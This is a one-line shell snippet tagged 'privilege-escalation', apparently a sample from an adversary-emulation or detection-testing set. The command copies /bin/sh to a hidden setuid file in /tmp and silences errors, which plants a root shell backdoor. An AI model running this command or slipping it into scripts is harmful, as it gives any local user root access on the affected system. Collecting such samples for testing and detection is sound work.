# tactic: privilege-escalation
install -m 4755 /bin/sh /tmp/.s 2>/dev/null; true
